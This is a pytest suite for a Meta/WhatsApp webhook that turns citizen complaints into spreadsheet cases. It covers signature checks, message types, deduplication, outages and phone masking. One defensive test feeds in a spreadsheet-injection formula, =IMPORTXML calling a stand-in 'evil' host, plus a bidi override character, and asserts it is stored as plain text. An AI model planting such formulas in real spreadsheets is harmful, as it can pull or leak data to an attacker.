"""`/meta`: realistic signed Meta deliveries of every type through the HTTP handler."""
from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from functions.bootstrap import build, services
from functions.messaging.outbox import read_outbox
from functions.model import StorageUnavailable
from functions.server import make_app
from functions.stores.local import LocalWorkbook
from tests.draining import drain, draining_client
from tests.fakes import meta_payloads as mp

ROOT = Path(__file__).resolve().parents[2]
WA = "6281234567801"


@pytest.fixture
def meta_settings(settings):
    return replace(settings, whatsapp_app_secret=mp.APP_SECRET, whatsapp_verify_token=mp.VERIFY_TOKEN,
                   whatsapp_phone_number_id=mp.PHONE_NUMBER_ID)


@pytest.fixture
def svc(meta_settings, clock):
    services_ = build(meta_settings, clock=clock)
    services_.workbook.bootstrap()
    return services_


@pytest.fixture
def client(svc):
    return draining_client(svc)  # stores what each delivery queued, as serve's drain thread does


def post(client, payload, secret=mp.APP_SECRET):
    body, headers = mp.signed(payload, secret)
    return client.post("/meta", data=body, headers=headers)


def rows(svc):
    return [row for tab_rows in svc.workbook.read_all().values() for row in tab_rows]


def outbox(svc, channel="WhatsApp"):
    return read_outbox(svc.settings.outbox_dir, channel)


# -- handshake and signature --------------------------------------------------------------------

def test_verification_handshake_echoes_the_challenge(client):
    reply = client.get("/meta", query_string={"hub.mode": "subscribe", "hub.verify_token": mp.VERIFY_TOKEN,
                                              "hub.challenge": "1158201444"})
    assert reply.status_code == 200 and reply.get_data(as_text=True) == "1158201444"
    assert reply.headers["Content-Type"].startswith("text/plain")


@pytest.mark.parametrize("params", [
    {"hub.mode": "subscribe", "hub.verify_token": "salah", "hub.challenge": "1"},
    {"hub.mode": "unsubscribe", "hub.verify_token": mp.VERIFY_TOKEN, "hub.challenge": "1"},
    {"hub.mode": "subscribe", "hub.challenge": "1"},
])
def test_handshake_with_a_wrong_token_is_refused(client, params):
    assert client.get("/meta", query_string=params).status_code == 403


def test_missing_signature_is_401_and_writes_nothing(client, svc, clock):
    body = mp.encode(mp.whatsapp([mp.wa_text("Jalan rusak di Desa Sungai Awan", at=clock())]))
    reply = client.post("/meta", data=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == 401 and rows(svc) == [] and outbox(svc) == []


def test_bad_signature_is_403_and_writes_nothing(client, svc, clock):
    assert post(client, mp.whatsapp([mp.wa_text("Jalan rusak di Desa Sungai Awan", at=clock())]),
                secret="bukan-rahasia").status_code == 403
    body, headers = mp.signed(mp.whatsapp([mp.wa_text("Jalan rusak", at=clock())]))
    tampered = body.replace(b"Jalan rusak", b"Jalan mulus")
    assert client.post("/meta", data=tampered, headers=headers).status_code == 403
    assert rows(svc) == [] and outbox(svc) == []


def test_signature_is_checked_on_the_raw_bytes_not_re_encoded_json(client, svc, clock):
    payload = mp.whatsapp([mp.wa_text("Jalan rusak di Desa Sungai Awan", at=clock())])
    body = json.dumps(payload, indent=3, ensure_ascii=True).encode()  # different bytes, same JSON
    reply = client.post("/meta", data=body, headers={"X-Hub-Signature-256": mp.sign(body),
                                                     "Content-Type": "application/json"})
    assert reply.status_code == 200 and len(rows(svc)) == 1


def test_body_over_3_mb_is_413(client, svc):
    body = b'{"object":"page","entry":[]' + b" " * (3 * 1024 * 1024) + b"}"
    reply = client.post("/meta", data=body, headers={"X-Hub-Signature-256": mp.sign(body)})
    assert reply.status_code == 413 and rows(svc) == []


def test_invalid_utf8_is_400_after_the_signature_check(client, svc):
    body = b'{"object":"whatsapp_business_account","entry":[{"id":"1","changes":[]}],"x":"\xff\xfe"}'
    assert client.post("/meta", data=body, headers={"X-Hub-Signature-256": mp.sign(body, "x")}).status_code == 403
    assert client.post("/meta", data=body, headers={"X-Hub-Signature-256": mp.sign(body)}).status_code == 400


@pytest.mark.parametrize("payload", [
    b"not json at all", b"[]", b'{"object": "whatsapp_business_account"}',
    b'{"object": "whatsapp_business_account", "entry": "nope"}',
    b'{"object": "whatsapp_business_account", "entry": [{"changes": [{"field": "messages", "value": 3}]}]}',
    b'{"object": "whatsapp_business_account", "entry": [{"changes": [{"field": "messages", "value":'
    b' {"messages": [{"type": "text", "text": {"body": "tanpa id"}}]}}]}]}',
    b'{"object": "user", "entry": [{"id": "1", "changes": [{"field": "email"}]}]}',
])
def test_malformed_but_signed_is_200_and_logged(client, svc, payload, capsys):
    reply = client.post("/meta", data=payload, headers={"X-Hub-Signature-256": mp.sign(payload)})
    assert reply.status_code == 200 and rows(svc) == []
    logged = [json.loads(line) for line in capsys.readouterr().err.splitlines() if line.startswith("{")]
    assert any(e["severity"] in {"WARNING", "INFO"} and e["message"].startswith("meta webhook") for e in logged)


# -- every WhatsApp message type ------------------------------------------------------------------

def test_text_message_becomes_a_case_acknowledged_on_whatsapp(client, svc, clock):
    reply = post(client, mp.whatsapp([mp.wa_text("Jalan di Desa Sungai Awan Kiri rusak parah", at=clock())]))
    assert reply.status_code == 200 and reply.get_json()["actions"] == ["queued"] and reply.stored == ["created"]
    ticket = reply.get_json()["tickets"][0]
    (row,) = rows(svc)
    assert row["ticket_id"] == ticket and row["channel"] == "WhatsApp" and row["reporter"] == "Budi S."
    assert row["contact"] == "0812****7801" and WA not in json.dumps(row, default=str)
    record = svc.contacts.get(ticket)
    assert record.contact.name == "Budi Santoso" and record.contact.channel_user_id == WA
    (ack,) = outbox(svc)
    assert ack["to"] == WA and ticket in ack["text"]


@pytest.mark.parametrize("builder,ref", [
    (lambda at: mp.wa_image("1479537139650973", caption="Jalan berlubang di Desa Pesaguan", at=at),
     "image:1479537139650973"),
    (lambda at: mp.wa_video("2179537139650974", caption="Banjir di Jalan Merdeka", at=at), "video:2179537139650974"),
    (lambda at: mp.wa_document("3179537139650975", filename="surat.pdf", caption="KTP belum jadi", at=at),
     "document:3179537139650975 (surat.pdf)"),
    (lambda at: mp.wa_sticker("4179537139650976", at=at), "sticker:4179537139650976"),
])
def test_media_keeps_caption_and_media_id_without_downloading(client, svc, clock, builder, ref):
    reply = post(client, mp.whatsapp([builder(clock())]))
    assert reply.status_code == 200
    (row,) = rows(svc)
    assert row["link"] == ref
    caption = mp.whatsapp([builder(clock())])["entry"][0]["changes"][0]["value"]["messages"][0]
    expected = (caption.get(caption["type"]) or {}).get("caption") or "[foto/berkas tanpa keterangan]"
    assert row["text"] == expected


def test_voice_note_is_a_placeholder(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_audio("5179537139650977", at=clock())]))
    (row,) = rows(svc)
    assert row["text"] == "[pesan suara]" and row["link"] == "audio:5179537139650977"


def test_location_keeps_exact_coordinates_and_the_kecamatan_when_named(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_location(-1.845731, 109.971622, name="Pasar Rakyat",
                                             address="Jl. Gajah Mada, Delta Pawan, Ketapang", at=clock())]))
    (row,) = rows(svc)
    assert row["location"] == "-1.845731, 109.971622 (Kecamatan Delta Pawan)"
    assert "https://maps.google.com/?q=-1.845731,109.971622" in row["link"]


def test_location_without_a_named_place_keeps_only_coordinates(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_location(-2.1, 110.5, at=clock())]))
    (row,) = rows(svc)
    assert row["location"] == "-2.1, 110.5"


def test_shared_contact_is_recorded_with_its_number_masked(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_contacts("Pak RT Santoso", "+62 812-3456-7899", at=clock())]))
    (row,) = rows(svc)
    assert row["text"] == "[kontak dibagikan: Pak RT Santoso (0812****7899)]"
    assert "3456" not in row["text"]


@pytest.mark.parametrize("builder", [
    lambda at: mp.wa_button_reply("Lampu jalan mati di Jalan Merdeka", at=at),
    lambda at: mp.wa_list_reply("Lampu jalan mati di Jalan Merdeka", at=at),
    lambda at: mp.wa_button("Lampu jalan mati di Jalan Merdeka", at=at),
])
def test_interactive_and_button_replies_are_read_as_text(client, svc, clock, builder):
    post(client, mp.whatsapp([builder(clock())]))
    (row,) = rows(svc)
    assert row["text"] == "Lampu jalan mati di Jalan Merdeka"


def test_reactions_and_statuses_are_never_complaints(client, svc, clock):
    reply = post(client, mp.whatsapp([mp.wa_reaction("wamid.X", at=clock())],
                                     statuses=[mp.wa_status("wamid.OUT1", "delivered", at=clock()),
                                               mp.wa_status("wamid.OUT1", "read", at=clock())]))
    assert reply.status_code == 200 and rows(svc) == [] and outbox(svc) == []


def test_unsupported_message_asks_for_text(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_unsupported(at=clock())]))
    assert rows(svc) == []
    (answer,) = outbox(svc)
    assert "bentuk teks" in answer["text"]


def test_system_message_is_logged_only(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_system(at=clock())]))
    assert rows(svc) == [] and outbox(svc) == []


def test_every_entry_change_and_message_is_handled(client, svc, clock):
    a = mp.whatsapp([mp.wa_text("Lampu PJU mati di Jalan Gajah Mada", sender="6281111111111", at=clock()),
                     mp.wa_text("Sampah numpuk di Pasar Kota", sender="6282222222222", at=clock())],
                    contacts=[mp.wa_contact("6282222222222", "Siti Aminah"),
                              mp.wa_contact("6281111111111", "Rudi Hartono")])
    b = mp.whatsapp([mp.wa_text("KTP belum jadi 3 bulan", sender="6283333333333", at=clock())])
    reply = post(client, mp.whatsapp_entries(a, b))
    assert reply.get_json()["actions"] == ["queued"] * 3 and reply.stored == ["created"] * 3
    by_ticket = {svc.contacts.get(t).contact.channel_user_id: svc.contacts.get(t).contact.name
                 for t in reply.get_json()["tickets"]}
    # names are matched by wa_id, not by position in the contacts array
    assert by_ticket == {"6281111111111": "Rudi Hartono", "6282222222222": "Siti Aminah",
                         "6283333333333": "Budi Santoso"}


def test_business_scoped_user_without_phone(client, svc, clock):
    msg = mp.wa_text("Jalan rusak di Desa Sungai Awan", sender=None, user_id="ID.1410018717833190", at=clock())
    reply = post(client, mp.whatsapp([msg], contacts=[mp.wa_contact(None, "Wati", "ID.1410018717833190")]))
    ticket = reply.get_json()["tickets"][0]
    contact = svc.contacts.get(ticket).contact
    assert contact.channel_user_id == "ID.1410018717833190" and contact.phone == "" and contact.name == "Wati"
    assert outbox(svc)[0]["to"] == "ID.1410018717833190"


def test_conversation_over_several_deliveries_joins_one_case(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_text("Assalamualaikum min", at=clock())]))
    clock.advance(minutes=1)
    first = post(client, mp.whatsapp([mp.wa_text("Jalan di Desa Sungai Awan Kiri rusak parah", at=clock())]))
    clock.advance(minutes=2)
    post(client, mp.whatsapp([mp.wa_image(caption="fotonya", at=clock()),
                              mp.wa_location(-1.85, 109.97, address="Sungai Awan Kiri, Muara Pawan", at=clock())]))
    (row,) = rows(svc)
    assert row["ticket_id"] == first.get_json()["tickets"][0]
    assert "fotonya" in row["text"] and "image:1479537139650973" in row["link"]
    texts = [m["text"] for m in outbox(svc)]
    assert "apa masalahnya" in texts[0] and "Nomor tiket" in texts[1]


def test_redelivery_days_later_makes_no_second_case(client, svc, clock, meta_settings):
    payload = mp.whatsapp([mp.wa_text("Puskesmas di Kecamatan Sandai sering tutup", at=clock())])
    first = post(client, payload).get_json()["tickets"]
    clock.advance(days=3)
    fresh = draining_client(build(meta_settings, clock=clock))  # a restart
    again = post(fresh, payload)
    # The queue remembers the message id: a duplicate at the door, no job, no Sheets read.
    assert again.get_json()["actions"] == ["duplicate"] and again.get_json()["tickets"] == first
    assert again.stored == []
    assert len(rows(svc)) == 1 and len(outbox(svc)) == 1


def test_store_outage_keeps_the_message_queued_and_unacknowledged_until_it_is_stored(svc, clock, tmp_path):
    class DownWorkbook(LocalWorkbook):
        down = True

        def append(self, cases):
            if self.down:
                raise StorageUnavailable("quota")
            return super().append(cases)

    svc.workbook = DownWorkbook(tmp_path / "down.sqlite", svc.schema)
    svc.workbook.bootstrap()
    payload = mp.whatsapp([mp.wa_text("Jalan rusak di Desa Sungai Awan", at=clock())])
    reply = post(draining_client(svc), payload)
    assert reply.status_code == 200 and reply.stored == [] and reply.drained.retry_later  # accepted, waiting
    assert outbox(svc) == [] and rows(svc) == []  # nobody is told "stored" before it is
    assert len(svc.queue.stats().waiting) == 1
    svc.workbook.down = False
    svc.queue.clock = lambda: 10 ** 10  # past the backoff
    assert [r.action for r in drain(svc).results] == ["created"]
    (row,) = rows(svc)
    (ack,) = outbox(svc)
    assert row["ticket_id"] == reply.get_json()["tickets"][0] and row["ticket_id"] in ack["text"]


def test_status_command_over_whatsapp(client, svc, clock):
    ticket = post(client, mp.whatsapp([mp.wa_text("Lampu PJU mati di Jalan Merdeka", at=clock())])).get_json()["tickets"][0]
    clock.advance(hours=2)
    post(client, mp.whatsapp([mp.wa_text(f"cek {ticket.lower()}", at=clock())]))
    assert f"Tiket {ticket}" in outbox(svc)[-1]["text"] and "Status: Baru" in outbox(svc)[-1]["text"]


def test_formula_text_is_stored_as_text(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_text("=IMPORTXML(\"http://evil\",\"//a\") \u202ejalan rusak", at=clock())]))
    (row,) = rows(svc)
    assert row["text"] == "=IMPORTXML(\"http://evil\",\"//a\") jalan rusak"


def test_messages_for_another_phone_number_are_ignored(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_text("Jalan rusak di Desa Sungai Awan", at=clock())], phone_number_id="999"))
    assert rows(svc) == []


# -- Messenger, Instagram, Page comments -------------------------------------------------------

def test_messenger_dm_becomes_a_facebook_case_and_echoes_are_skipped(client, svc, clock):
    psid = "6254021434668112"
    reply = post(client, mp.messenger([mp.dm_event(psid, text="Lampu jalan di Jalan Diponegoro mati", at=clock()),
                                       mp.dm_event(psid, text="Terima kasih, sudah kami catat", at=clock(), echo=True)],
                                      at=clock()))
    assert reply.stored == ["created"]
    (row,) = rows(svc)
    assert row["channel"] == "Facebook"
    (ack,) = outbox(svc, "Facebook")
    assert ack["to"] == psid and row["ticket_id"] in ack["text"]


def test_instagram_dm_with_a_photo(client, svc, clock):
    igsid = "1104823976340542"
    post(client, mp.instagram([mp.dm_event(igsid, text="Sampah di Taman Kota menumpuk", at=clock(),
                                           attachments=[mp.image_attachment()], own_id=mp.IG_ACCOUNT_ID)], at=clock()))
    (row,) = rows(svc)
    assert row["channel"] == "Instagram" and row["link"].startswith("image:https://lookaside.fbsbx.com/")


def test_page_comment_becomes_a_case_and_the_pages_own_comment_is_skipped(client, svc, clock):
    post(client, mp.page_comment("Jalan ke Desa Kuala Satong rusak parah, mohon diperbaiki", at=clock()))
    post(client, mp.page_comment("Terima kasih atas masukannya", at=clock(), author_id=mp.PAGE_ID))
    post(client, mp.page_comment("Jalan rusak", at=clock(), verb="edited"))
    (row,) = rows(svc)
    assert row["channel"] == "Facebook" and row["link"].startswith("https://www.facebook.com/kmcketapang/posts/")
    (ack,) = outbox(svc, "Facebook")
    assert ack["to"].startswith("comment:")


def test_instagram_comment_becomes_an_instagram_case(client, svc, clock):
    post(client, mp.instagram_comment("Air PDAM di Kelurahan Sampit mati tiga hari", at=clock()))
    (row,) = rows(svc)
    assert row["channel"] == "Instagram" and row["reporter"] == "warga.ketapang"


# -- the functions-framework target -----------------------------------------------------------

def test_functions_framework_target_accepts_a_signed_delivery(monkeypatch, tmp_path, clock):
    from functions_framework import create_app

    for key in ("KMC_BACKEND", "WHATSAPP_ACCESS_TOKEN", "K_SERVICE", "WHATSAPP_PHONE_NUMBER_ID"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("KMC_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("WHATSAPP_APP_SECRET", mp.APP_SECRET)
    services.cache_clear()
    try:
        services().workbook.bootstrap()
        app = create_app(target="meta_webhook", source=str(ROOT / "main.py")).test_client()
        body, headers = mp.signed(mp.whatsapp([mp.wa_text("Jembatan di Desa Pemahan patah", at=clock())]))
        assert app.post("/", data=body, headers=headers).status_code == 200
        assert app.post("/", data=body, headers={"Content-Type": "application/json"}).status_code == 401
        assert read_outbox(tmp_path / "data" / "outbox") == []  # accepted, not yet stored
        drain(services())
        assert len(read_outbox(tmp_path / "data" / "outbox")) == 1
    finally:
        services.cache_clear()


def test_window_lets_messages_a_few_minutes_apart_join(client, svc, clock):
    post(client, mp.whatsapp([mp.wa_text("Lampu PJU di Jalan Merdeka mati", at=clock())]))
    post(client, mp.whatsapp([mp.wa_text("sudah dua minggu", at=clock() + timedelta(minutes=29))]))
    post(client, mp.whatsapp([mp.wa_text("Jalan di Desa Sukabangun berlubang", at=clock() + timedelta(minutes=70))]))
    assert len(rows(svc)) == 2
